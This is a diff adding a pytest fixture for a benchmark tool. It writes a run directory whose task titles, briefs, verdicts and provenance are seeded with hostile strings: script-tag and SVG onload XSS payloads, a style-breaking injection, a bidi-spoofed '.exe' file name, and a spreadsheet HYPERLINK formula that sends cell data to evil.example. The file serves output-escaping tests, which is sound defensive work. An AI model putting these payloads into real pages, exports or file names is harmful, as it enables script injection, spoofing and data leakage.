@@ -1,0 +1,170 @@
+"""A run directory written by hand: what a run leaves behind, with hostile words wherever somebody else's words can stand."""
+
+import json
+from collections.abc import Callable
+from dataclasses import asdict
+from pathlib import Path
+
+import pytest
+from PIL import Image
+
+from local_bench.core.identity import digest
+from local_bench.core.images import store_image
+from local_bench.core.nouns import Task
+from local_bench.runs.config import ModelConfig, RunConfig, SettlementConfig
+from local_bench.runs.rundir import RunDir
+
+SCRIPT = "<script>alert(1)</script>"
+SVG = '"><svg onload=alert(2)>'
+STYLE_END = "</style><style>*{display:none}</style>"
+BIDI = "evil\u202egnp.exe\u2066\u200b\x07\x00"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+REASON = f"the answer was cut off {SCRIPT}"
+HOUR_USD = "1.80"
+MakeRun = Callable[..., Path]
+
+
+def order(task_id: str, category: str, price_micro_usd: int, n: int, **more: object) -> Task:
+    task = {
+        "title": f"Order {task_id}",
+        "brief": f"A calm picture.\nSecond line {SVG}",
+        "deliverables": tuple(f"Deliverable {i} {STYLE_END}" for i in range(1, n + 1)),
+        "evaluation_points": ("The lamp is lit", f"No text {SCRIPT}"),
+    }
+    return Task(task_id=task_id, category=category, price_micro_usd=price_micro_usd, **(task | more))  # type: ignore[arg-type]
+
+
+class Writer:
+    """Puts rows into an open run's ledger."""
+
+    def __init__(self, run: RunDir) -> None:
+        self.run = run
+        self.write = run.ledger.write
+        self.position = 0
+
+    def task(self, task: Task, position: int) -> None:
+        content = json.dumps(asdict(task))
+        row = (task.task_id, position, task.category, task.price_micro_usd, content, task.unscored)
+        self.write("INSERT INTO tasks VALUES (?, ?, ?, ?, ?, ?)", *row)
+
+    def candidate(
+        self, task: Task, deliverable: int, model: str, state: str = "done", reason: str | None = None
+    ) -> str:
+        work = {"task": task.task_id, "deliverable": deliverable, "model": model}
+        work_id = digest(work)
+        self.position += 1
+        colour = tuple(int(work_id[i : i + 2], 16) for i in (0, 2, 4))
+        sha = store_image(self.run.images, Image.new("RGB", (320, 240), colour)) if state == "done" else None
+        self.write(
+            "INSERT INTO candidates VALUES (?, ?, ?, ?, ?, 1, ?, ?, 7, 240, 320, ?, ?, ?, ?)",
+            *(
+                work_id,
+                self.position,
+                task.task_id,
+                deliverable,
+                model,
+                f"{task.title}. {task.brief}",
+                json.dumps(work),
+            ),
+            *(state, None if sha is None else digest({"work": work_id}), sha, reason),
+        )
+        return work_id
+
+    def decision(self, work_id: str, accepted: bool | None, reason: str | None = None) -> None:
+        self.write(
+            "INSERT INTO decisions VALUES (?, ?, ?, 0)", work_id, None if accepted is None else int(accepted), reason
+        )
+
+    def score(
+        self, work_id: str, name: str, value: float | None, reason: str | None = None, kind: str = "judge"
+    ) -> None:
+        applies = int(value is not None or reason is not None)
+        self.write("INSERT INTO scores VALUES (?, ?, ?, ?, ?, ?)", work_id, name, kind, value, reason, applies)
+
+    def verdict(
+        self, work_id: str, rubric: str, point: int, answer: object, raw: str, reason: str | None = None
+    ) -> None:
+        text = None if answer is None else json.dumps(answer)
+        ids = (digest({"q": [work_id, rubric, point]}), digest({"rubric": rubric}), digest({"judge": 1}))
+        self.write(
+            "INSERT INTO verdicts VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)", work_id, rubric, point, *ids, text, reason, raw
+        )
+
+    def meter(self, rows: list[tuple[str, str | None, int, int, int | None]]) -> None:
+        """(phase, model, held ns, items, millijoules) one after the other, as one session on the CPU."""
+        held_ns = sum(row[2] for row in rows)
+        self.write("INSERT INTO sessions VALUES (1, '2026-01-02T03:04:05+00:00', 'cpu', ?, 'done')", held_ns)
+        at = 0
+        for phase, model, ns, items, energy in rows:
+            self.write("INSERT INTO meter VALUES (1, ?, ?, ?, ?, ?, ?)", at, at + ns, phase, model, items, energy)
+            at += ns
+
+
+@pytest.fixture
+def make_run(tmp_path: Path) -> MakeRun:
+    """Makes a run directory and returns its path.
+
+    Two models, two orders of 35 and 100 dollars with one and two images. `alpha` gets everything accepted; of `beta` one
+    image of the second order is unscored where `gap` says so, and one has not been made where `planned` does.
+    """
+
+    def make(
+        *, gap: bool = True, planned: bool = False, price: str | None = HOUR_USD, coverage_min: float = 0.98
+    ) -> Path:
+        path = tmp_path / "run"
+        config = RunConfig(
+            name="hostile",
+            seed=7,
+            models=[ModelConfig(card="alpha"), ModelConfig(card="beta")],
+            metrics=["piqe"],
+            settlement=SettlementConfig(usd_per_hour=price, coverage_min=coverage_min),
+        )
+        with RunDir.begin(path, config) as run, run.ledger.transaction():
+            _fill(Writer(run), gap, planned)
+        (path / "provenance.json").write_text(json.dumps({"python": "3.11", "packages": {SCRIPT: [1, 2, BIDI]}}))
+        return path
+
+    return make
+
+
+def _fill(to: Writer, gap: bool, planned: bool) -> None:
+    orders = [
+        order(
+            "t1", f"Portrait {SCRIPT}", 35_000_000, 1, title=f"{SCRIPT}{SVG}{STYLE_END}{BIDI}", notes=(f"note {SVG}",)
+        ),
+        order("t2", FORMULA, 100_000_000, 2, title=FORMULA),
+    ]
+    for position, task in enumerate(orders):
+        to.task(task, position)
+    for model in ("alpha", "beta"):
+        for task in orders:
+            for i in range(1, len(task.deliverables) + 1):
+                last = model == "beta" and task.task_id == "t2" and i == 2
+                if last and planned:
+                    to.candidate(task, i, model, "planned")
+                else:
+                    _judged(to, to.candidate(task, i, model), model, open_=last and gap)
+    to.meter(
+        [
+            ("load", "alpha", 2_000_000_000, 0, None),
+            ("denoise", "alpha", 10_000_000_001, 3, 5_000),
+            ("denoise", "beta", 7_000_000_000, 3, 4_000),
+            ("judge", None, 61_000_000_000, 12, 9_000),
+            ("idle", None, 1_000_000, 0, None),
+        ]
+    )
+
+
+def _judged(to: Writer, work_id: str, model: str, *, open_: bool) -> None:
+    to.verdict(work_id, "brf", 0, {"met": 1}, '{"met":1}')
+    to.score(work_id, "brf", 4.0 if model == "alpha" else 2.5)
+    to.score(work_id, "veq_text", None)
+    if open_:
+        to.verdict(work_id, "brf", 1, None, f"{SCRIPT}{SVG}{BIDI} {FORMULA}", REASON)
+        to.score(work_id, "veq", None, REASON)
+        to.decision(work_id, None, f"veq: {REASON}")
+    else:
+        to.verdict(work_id, "brf", 1, {"met": 0}, f"-1+{FORMULA}")
+        to.score(work_id, "veq", 3.5)
+        to.score(work_id, "piqe", 41.25, kind="metric")
+        to.decision(work_id, model == "alpha")
